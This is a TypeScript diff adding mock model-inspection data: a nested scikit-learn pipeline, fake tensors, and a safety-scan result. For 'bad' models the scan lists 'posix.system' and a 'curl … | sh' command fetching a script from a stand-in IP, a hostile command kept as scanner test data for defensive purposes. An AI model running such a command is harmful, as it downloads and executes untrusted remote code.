@@ -30,6 +30,20 @@ export const handlers: Handlers = {
 				? {
 						format: it.format ?? "", framework: it.framework?.split(" ")[0] ?? null, framework_version: it.framework?.split(" ")[1] ?? null, class: it.class,
 						steps: it.class?.endsWith("Pipeline") ? ["sklearn.pipeline.Pipeline", "sklearn.compose._column_transformer.ColumnTransformer", "sklearn.preprocessing._encoders.OneHotEncoder", "sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingClassifier"] : [],
+						parts: it.class?.endsWith("Pipeline")
+							? [
+									{ name: "prepare", class: "sklearn.compose._column_transformer.ColumnTransformer", columns: null, parts: [
+										{ name: "numbers", class: "sklearn.pipeline.Pipeline", columns: ["income", "amount", "bureau_score"], parts: [
+											{ name: "fill", class: "sklearn.impute._base.SimpleImputer", columns: null, parts: [] },
+											{ name: "scale", class: "sklearn.preprocessing._data.StandardScaler", columns: null, parts: [] },
+										] },
+										{ name: "categories", class: "sklearn.preprocessing._encoders.OneHotEncoder", columns: ["postcode", "عنوان الفرع", ...Array.from({ length: 40 }, (_, i) => `feature_${i}`)], parts: [] },
+										{ name: "remainder", class: "drop", columns: ["age_of_account"], parts: [] },
+									] },
+									{ name: "classifier", class: "sklearn.ensemble._hist_gradient_boosting.gradient_boosting.HistGradientBoostingClassifier", columns: null, parts: [] },
+								]
+							: [],
+						tensors: it.format === "onnx" ? Array.from({ length: 26 }, (_, i) => ({ name: `layer_${i}.weight`, dtype: i % 2 ? "float32" : "int64", shape: [64, i + 1] })) : null,
 						parameters: bad ? {} : Object.fromEntries(Array.from({ length: 34 }, (_, i) => [`classifier__parameter_${i}`, i % 3 === 0 ? null : i % 3 === 1 ? i / 7 : ["a", "b"]])),
 						features_in: null, outputs: ["label", "probabilities"], classes: bad ? null : [0, 1], signature: null, environment: { python: "3.12.4", packages: { "scikit-learn": "1.5.2", numpy: "2.1.0" } }, training: { n_iter: 214, n_features: 57 },
 						safety: { verdict: it.safety ?? "unverified", reasons: it.safety === "safe" ? [] : bad ? [{ what: "posix.system", where: "byte 1042" }, { what: "curl http://203.0.113.7/x | sh", where: "byte 1060" }] : [{ what: "numpy._core.multiarray._reconstruct", where: "byte 221" }, { what: "sklearn.pipeline.Pipeline", where: "byte 12" }] },
